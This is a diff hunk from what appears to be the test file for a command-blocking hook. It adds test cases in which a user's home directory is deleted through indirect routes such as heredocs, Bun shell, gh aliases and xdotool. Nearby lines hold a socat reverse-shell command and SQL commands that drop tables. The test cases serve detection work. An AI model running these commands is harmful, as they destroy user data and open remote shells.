@@ -240,6 +240,12 @@ testHook(hook, {
       'socat TCP:h:1 EXEC:/bin/sh',
     ]),
     ...each('sql', ['psql -c "drop table users"', "mysql -e 'TRUNCATE TABLE t'"], 'T-HAR-08'),
+    ...each('home', [
+      'bash <<E\nrm -rf "\\$HOME"\nE',
+      "bun -e 'await Bun.$`rm -rf /home/dev`'",
+      "gh alias set x '!rm -rf ~'",
+      'xdotool type "rm -rf /home/dev"',
+    ]),
     ...each('sql', [
       'echo "DROP DATABASE x" | psql',
       'sqlite3 a.db "drop table t"',
